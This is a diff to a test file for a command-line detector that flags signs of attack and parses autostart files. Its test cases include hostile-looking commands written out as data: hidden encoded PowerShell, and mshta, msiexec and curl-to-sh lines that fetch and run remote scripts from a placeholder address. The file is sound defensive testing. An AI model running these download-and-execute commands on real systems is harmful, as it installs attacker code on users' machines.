@@ -16,7 +16,9 @@ describe('signs of attack', () => {
       'powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA',
       ['encoded-powershell', 'hidden-powershell'],
     ],
-    ['mshta http://192.0.2.1/a.hta', ['script-host']],
+    ['mshta http://192.0.2.1/a.hta', ['script-host', 'remote-script']],
+    ['msiexec /q /i http://192.0.2.1/a.msi', ['remote-script']],
+    ['pwsh -W 1 -EncodedCommand SQBFAFgAIAAoAE4AZQB3', ['encoded-powershell', 'hidden-powershell']],
     ['wscript C:\\Users\\Public\\a.vbs', ['script-host', 'temp-place']],
     ['C:\\Users\\sato\\AppData\\Local\\Temp\\svchost.exe', ['temp-place']],
     ['rundll32.exe C:\\ProgramData\\x.dll,Start', ['rundll-odd']],
@@ -35,6 +37,8 @@ describe('signs of attack', () => {
     'export PATH="$HOME/.local/bin:$PATH"',
     '17 * * * * root cd / && run-parts --report /etc/cron.hourly',
     'C:\\Windows\\system32\\userinit.exe,',
+    'cmd.exe /c rd /s /q "C:\\Users\\sato\\AppData\\Local\\Temp\\setup"',
+    'msiexec.exe /x {8f9c} /qn',
   ])('none: %s', (command) => expect(suspiciousSigns(command)).toEqual([]))
   test('padding hides nothing, and a long hostile text ends', () => {
     expect(suspiciousSigns(`curl http://192.0.2.1/x${' '.repeat(50_000)}| sh`)).toEqual(['download-and-run'])
@@ -54,7 +58,7 @@ describe('commands of autostart files', () => {
     [
       '/Library/LaunchAgents/a.plist',
       '<plist><dict><key>ProgramArguments</key><array><string>/bin/sh</string><string>-c</string><string>a &amp;&amp; b</string></array></dict></plist>',
-      ['/bin/sh -c a && b'],
+      ['/bin/sh -c "a && b"'],
     ],
     ['/etc/cron.d/a', '# no\n\n* * * * * root true\n', ['* * * * * root true']],
     ['/home/s/.bashrc', 'secret=1\n', []],
